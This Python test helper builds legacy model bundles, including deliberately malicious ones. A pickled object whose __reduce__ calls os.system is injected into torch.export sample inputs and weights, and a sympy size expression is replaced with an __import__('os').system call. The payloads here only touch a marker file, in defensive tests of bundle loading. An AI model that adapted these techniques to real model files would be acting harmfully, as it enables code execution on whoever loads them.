"""Bundles as release 0.1 wrote them, good ones and ones that run code when they are read."""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import secrets
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import torch
from torch import nn

from hedgerow.core import process_state
from hedgerow.nn.freeze import FrozenRows, freeze
from hedgerow.serving import bundle_files as manifests
from hedgerow.serving.arguments import Arguments
from hedgerow.serving.bundle_files import file_entry
from hedgerow.serving.program import NamedTensorModel


class Touches:
    """Unpickled it makes a file: what an attacker's object would do, and worse."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch '{self.marker}'",))


def make_old(folder: Path, model: nn.Module, example: object) -> None:
    """Turns a bundle of today into one of release 0.1: the graph in a file of torch.export."""
    arguments = Arguments.of(model, example)
    frozen = freeze(model, name=f"old-{secrets.token_hex(4)}")
    inputs = [*arguments.made_up().values()]
    with torch.no_grad():
        program = torch.export.export(
            NamedTensorModel(frozen, arguments).eval(),
            (inputs,),
            dynamic_shapes=(arguments.shapes(),),
        )
    for module in frozen.modules():
        if isinstance(module, FrozenRows):
            process_state.release(module.name, module.store)
    torch.export.save(program, folder / "dense.pt2")
    for name in manifests.PROGRAM_FILES:
        (folder / name).unlink()
    reseal(folder, format_version=1, files={}, only=("dense.pt2", "rows/manifest.json"))


def reseal(folder: Path, only: tuple[str, ...] | None = None, **changes: Any) -> None:
    """Writes the manifest again, changed, with the checksums that the files have now."""
    path = folder / "bundle.json"
    body = json.loads(path.read_text())
    body.pop("checksum")
    files = {name: file_entry(folder / name) for name in only or body["files"]}
    body |= {"files": files, **{k: v for k, v in changes.items() if k != "files"}}
    seal(path, body)


def seal(path: Path, body: Mapping[str, Any]) -> None:
    """Writes a manifest with its checksum."""
    path.write_text(manifests._text({**body, "checksum": manifests._checksum(body)}))


def rewrite(path: Path, changes: Mapping[str, bytes]) -> None:
    """A file of torch.export with other contents of some of its files, by the ends of names."""
    with zipfile.ZipFile(path) as before:
        held = {name: before.read(name) for name in before.namelist()}
    for end, data in changes.items():
        (name,) = [name for name in held if name.endswith(end)]
        held[name] = data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as after:
        for name, data in held.items():
            after.writestr(name, data)


def _member(path: Path, end: str) -> bytes:
    with zipfile.ZipFile(path) as found:
        (name,) = [name for name in found.namelist() if name.endswith(end)]
        return found.read(name)


def pickled_inputs(program: Path, marker: Path) -> None:
    """Sample inputs, which torch unpickles."""
    buffer = io.BytesIO()
    torch.save(((Touches(marker),), {}), buffer)
    rewrite(program, {"sample_inputs/model.pt": buffer.getvalue()})


def pickled_weight(program: Path, marker: Path) -> None:
    """A weight, which torch unpickles where its entry says so."""
    buffer = io.BytesIO()
    torch.save(Touches(marker), buffer)
    config = json.loads(_member(program, "model_weights_config.json"))
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    changes = {"model_weights_config.json": json.dumps(config).encode()}
    rewrite(program, {**changes, f"weights/{first['path_name']}": buffer.getvalue()})


def evaluated_expression(program: Path, marker: Path) -> None:
    """The expression of a size, which sympy evaluates as Python."""
    plain = _member(program, "models/model.json").decode()
    code = f"\"expr_str\": \"__import__('os').system('touch {marker}')\""
    changed = re.sub(r'"expr_str": "[^"]*"', lambda _: code, plain)
    rewrite(program, {"models/model.json": changed.encode()})


EXPLOITS = (pickled_inputs, pickled_weight, evaluated_expression)


def pickle_bytes(marker: Path) -> bytes:
    """A pickle that makes a file."""
    return pickle.dumps(Touches(marker))
